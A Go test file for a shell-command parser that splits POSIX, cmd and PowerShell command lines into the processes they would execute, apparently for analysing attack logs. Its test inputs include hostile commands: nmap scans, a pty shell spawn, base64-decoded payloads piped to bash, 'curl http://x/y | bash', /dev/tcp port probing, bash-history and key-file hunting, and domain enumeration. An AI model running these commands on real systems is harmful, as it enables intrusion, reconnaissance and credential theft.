package shell

import (
	"errors"
	"fmt"
	"strings"
	"testing"
)

// render prints the process-level view of a result: one line per exec,
// "argv | chain | flags".
func render(r *Result) []string {
	var out []string
	for _, e := range r.Execs {
		var flags []string
		if e.Builtin {
			flags = append(flags, "builtin")
		}
		if e.Function {
			flags = append(flags, "function")
		}
		if e.Via != "" {
			flags = append(flags, "via="+e.Via)
		}
		if e.Code != "" {
			flags = append(flags, e.Interpreter+"-code="+e.Code)
		}
		for _, a := range e.Args {
			if !a.Static {
				flags = append(flags, fmt.Sprintf("dyn(%s|%s|%s)", a.Value, a.Prefix, a.Suffix))
			}
		}
		out = append(out, fmt.Sprintf("%s | %s | %s", strings.Join(e.Argv(), "␣"), strings.Join(e.Chain, ">"), strings.Join(flags, ",")))
	}
	return out
}

func TestMinePOSIX(t *testing.T) {
	tests := []struct {
		in   string
		want []string
	}{
		{"chmod +x /tmp/nmap ; ( /tmp/nmap -Pn -F 172.16.1.4; /tmp/nmap -Pn -p 8530,8531 172.16.1.4 ) 2>/dev/null | grep open ; rm /tmp/nmap", []string{
			"chmod␣+x␣/tmp/nmap | sh | ",
			"/tmp/nmap␣-Pn␣-F␣172.16.1.4 | sh | ",
			"/tmp/nmap␣-Pn␣-p␣8530,8531␣172.16.1.4 | sh | ",
			"grep␣open | sh | ",
			"rm␣/tmp/nmap | sh | ",
		}},
		{`a && b || { c; d; } 2>&1 >/tmp/out`, []string{"a | sh | ", "b | sh | ", "c | sh | ", "d | sh | "}},
		{`FOO=1 BAR="x y" env | grep 'a b'"c"\ d`, []string{"env | sh | ", "grep␣a bc d | sh | "}},
		{`cd /tmp; export X=1; echo hi; /bin/echo hi; read x; set -e; source ./a; . ./b`, []string{
			"cd␣/tmp | sh | builtin", "export␣X | sh | builtin", "echo␣hi | sh | builtin", "/bin/echo␣hi | sh | ",
			"read␣x | sh | builtin", "set␣-e | sh | builtin", "source␣./a | sh | builtin", ".␣./b | sh | builtin"}},
		{`sh -c 'id; ls -la "/root dir"'`, []string{
			`sh␣-c␣id; ls -la "/root dir" | sh | sh-code=id; ls -la "/root dir"`,
			"id | sh>sh | via=sh -c", "ls␣-la␣/root dir | sh>sh | via=sh -c"}},
		{`bash -lc "uname -a"`, []string{"bash␣-lc␣uname -a | sh | bash-code=uname -a", "uname␣-a | sh>bash | via=bash -c"}},
		{`python3 -c "import pty;pty.spawn('/bin/sh')"`, []string{`python3␣-c␣import pty;pty.spawn('/bin/sh') | sh | python-code=import pty;pty.spawn('/bin/sh')`}},
		{"echo $(whoami) `hostname`", []string{"whoami | sh | via=command substitution", "hostname | sh | via=command substitution",
			"echo␣$(whoami)␣$(hostname) | sh | builtin,dyn($(whoami)||),dyn($(hostname)||)"}},
		{`echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | bash`, []string{"echo␣Y2F0IC9ldGMvcGFzc3dk | sh | builtin", "base64␣-d | sh | ",
			"bash | sh | ", "cat␣/etc/passwd | sh>bash | via=base64 payload"}},
		{`base64 --decode <<< aWQ= | sh`, []string{"base64␣--decode | sh | ", "sh | sh | ", "id | sh>sh | via=base64 payload"}},
		{`echo 'uname -a' | bash`, []string{"echo␣uname -a | sh | builtin", "bash | sh | ", "uname␣-a | sh>bash | via=stdin"}},
		{`echo notbase64!! | base64 -d | sh`, []string{"echo␣notbase64!! | sh | builtin", "base64␣-d | sh | ", "sh | sh | "}},
		{`sudo -u root nmap -sS 192.168.1.0/24`, []string{"sudo␣-u␣root␣nmap␣-sS␣192.168.1.0/24 | sh | ", "nmap␣-sS␣192.168.1.0/24 | sh>sudo | via=sudo"}},
		{`timeout --preserve-status 1 whois -h localhost x`, []string{"timeout␣--preserve-status␣1␣whois␣-h␣localhost␣x | sh | ", "whois␣-h␣localhost␣x | sh>timeout | via=timeout"}},
		{`su -c "cd /tmp; curl -s http://x/y | bash" art`, []string{"su␣-c␣cd /tmp; curl -s http://x/y | bash␣art | sh | ",
			"cd␣/tmp | sh>su | builtin,via=su -c", "curl␣-s␣http://x/y | sh>su | via=su -c", "bash | sh>su | via=su -c"}},
		{`cat ~/.bash_history *.txt "$HOME/x" $'a\tb'`, []string{"cat␣~/.bash_history␣*.txt␣$HOME/x␣a\tb | sh | dyn(~/.bash_history||/.bash_history),dyn(*.txt||),dyn($HOME/x||/x)"}},
		{`f() { id; }; f`, []string{"id | sh | via=function", "f | sh | function"}},
		{`for p in {1..3}; do (2>/dev/null echo >/dev/tcp/h/$p) && echo open; done`, []string{"echo | sh | builtin", "echo␣open | sh | builtin"}},
		{`eval "id -u"; exec ls; command -v nmap`, []string{"eval␣id -u | sh | builtin", "id␣-u | sh | via=eval", "exec␣ls | sh | builtin", "ls | sh | via=exec", "command␣-v␣nmap | sh | builtin"}},
		{"bash <<'EOF'\nwhoami\nEOF", []string{"bash | sh | ", "whoami | sh>bash | via=here-document"}},
		// Variables with values known before running are expanded.
		{`N=/tmp/nmap; chmod +x $N; "$N" -Pn; ( M=1 ); ls $M`, []string{"chmod␣+x␣/tmp/nmap | sh | ", "/tmp/nmap␣-Pn | sh | ", "ls␣$M | sh | dyn($M||)"}},
		{`for i in a b; do X=$i; ls $X; done`, []string{"ls␣$X | sh | dyn($X||)"}},
		{`X="a b"; ls $X "$X"`, []string{"ls␣$X␣a b | sh | dyn($X||)"}},
		{`X=1; sh -c "ls $X" ; sh -c 'ls $X'; read X; ls $X`, []string{"sh␣-c␣ls 1 | sh | sh-code=ls 1", "ls␣1 | sh>sh | via=sh -c",
			"sh␣-c␣ls $X | sh | sh-code=ls $X", "ls␣$X | sh>sh | via=sh -c,dyn($X||)", "read␣X | sh | builtin", "ls␣$X | sh | dyn($X||)"}},
		{`export D=/dev/shm; cp x $D/y`, []string{"export␣D | sh | builtin", "cp␣x␣/dev/shm/y | sh | "}},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			r, err := Mine(tt.in, "sh")
			if err != nil {
				t.Fatal(err)
			}
			got := render(r)
			if strings.Join(got, "\n") != strings.Join(tt.want, "\n") {
				t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(tt.want, "\n"))
			}
		})
	}
}

func TestMineWarnings(t *testing.T) {
	r, err := Mine(`echo notbase64!! | base64 -d | sh; sh -c 'if then'`, "sh")
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Warnings) != 2 || !strings.Contains(r.Warnings[0], "1:20: base64 payload not followed") ||
		!strings.Contains(r.Warnings[1], "1:36: sh body not parsed: 1:1:") {
		t.Errorf("warnings: %q", r.Warnings)
	}
}

func TestMineSyntaxErrors(t *testing.T) {
	tests := []struct{ in, exec, want string }{
		{"echo 'a' | (", "sh", "1:12: `(` must be followed by a statement list"},
		{"ls\nfoo 'unterminated", "bash", "2:5: reached EOF without closing quote `'`"},
		{"if true; then", "sh", "1:10: `then` must be followed by a statement list"},
		{`dir "c:\`, "cmd", "1:9: unterminated double quote"},
		{`Get-Item 'x`, "psh", "1:10: unterminated single-quoted string"},
		{`foreach($i in 1){`, "psh", "missing closing bracket"},
	}
	for _, tt := range tests {
		_, err := Mine(tt.in, tt.exec)
		var se *SyntaxError
		if !errors.As(err, &se) {
			t.Errorf("%q: want SyntaxError, got %v", tt.in, err)
			continue
		}
		if !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%q: got %q, want %q", tt.in, err, tt.want)
		}
	}
}

func TestSplitCmdLine(t *testing.T) {
	tests := []struct {
		in   string
		want []string
	}{
		{`a b  c`, []string{"a", "b", "c"}},
		{`"C:\Program Files\x.exe" /a "b c"`, []string{`C:\Program Files\x.exe`, "/a", "b c"}},
		{`a\\\"b "c\\" d`, []string{`a\"b`, `c\`, "d"}},
		{`"a""b" c\d`, []string{`a"b`, `c\d`}},
		{`""`, []string{""}},
	}
	for _, tt := range tests {
		if got := SplitCmdLine(tt.in); strings.Join(got, "|") != strings.Join(tt.want, "|") || len(got) != len(tt.want) {
			t.Errorf("%s: got %q want %q", tt.in, got, tt.want)
		}
	}
}

func TestMineWindows(t *testing.T) {
	tests := []struct {
		in, exec string
		want     []string
	}{
		{`net user /domain & "C:\Windows\System32\whoami.exe" /groups 2>nul && echo ok`, "cmd", []string{
			"net␣user␣/domain | cmd | ", `C:\Windows\System32\whoami.exe␣/groups | cmd | `, "echo␣ok | cmd | builtin"}},
		{`for %i in (\.key \.pgp) do (dir c:\ /b /s .key | findstr /e "%i")`, "cmd", []string{
			`for␣%i␣in␣(\.key␣\.pgp)␣do | cmd | builtin,dyn(%i||)`,
			`dir␣c:\␣/b␣/s␣.key | cmd | builtin`, "findstr␣/e␣%i | cmd | dyn(%i||)"}},
		{`whoami /all; & "C:\Program Files\x.exe" -a 'b c'; Get-Process | Stop-Process`, "psh", []string{
			`powershell.exe␣-ExecutionPolicy␣Bypass␣-C␣whoami /all; & "C:\Program Files\x.exe" -a 'b c'; Get-Process | Stop-Process |  | powershell-code=whoami /all; & "C:\Program Files\x.exe" -a 'b c'; Get-Process | Stop-Process`,
			"whoami␣/all | powershell | ", `C:\Program Files\x.exe␣-a␣b c | powershell | `, "Get-Process | powershell | builtin", "Stop-Process | powershell | builtin"}},
	}
	for _, tt := range tests {
		r, err := Mine(tt.in, tt.exec)
		if err != nil {
			t.Fatal(err)
		}
		got := render(r)
		if strings.Join(got, "\n") != strings.Join(tt.want, "\n") {
			t.Errorf("%s:\ngot\n%s\nwant\n%s", tt.in, strings.Join(got, "\n"), strings.Join(tt.want, "\n"))
		}
	}
}

func TestMinePowerShellExpressions(t *testing.T) {
	src := "$owners = @{};\ngwmi win32_process |% {$owners[$_.handle] = $_.getowner().user};\n" +
		"$ps = get-process | select processname,Id,@{l=\"Owner\";e={$owners[$_.id.tostring()]}};\n" +
		"$x = nltest /dclist:; foreach($p in $ps) { ipconfig /all }"
	r, err := Mine(src, "psh")
	if err != nil {
		t.Fatal(err)
	}
	got := render(r)[1:]
	want := []string{"gwmi␣win32_process | powershell | builtin", "% | powershell | builtin", "get-process | powershell | builtin",
		"select␣processname␣Id | powershell | builtin", "nltest␣/dclist: | powershell | ", "ipconfig␣/all | powershell | "}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

// TestQuoteWindowsRoundTrip: Exec.String of a Windows exec splits back
// into the same argv with SplitCmdLine.
func TestQuoteWindowsRoundTrip(t *testing.T) {
	for _, argv := range [][]string{
		{`C:\Program Files\x.exe`, "/a", "b c"},
		{"a", `tricky\"q`, `trail\`, `sp ace\`, ""},
	} {
		e := Exec{Chain: []string{"cmd"}, Args: toArgs(argv)}
		got := SplitCmdLine(e.String())
		if strings.Join(got, "|") != strings.Join(argv, "|") || len(got) != len(argv) {
			t.Errorf("%q -> %s -> %q", argv, e.String(), got)
		}
	}
}
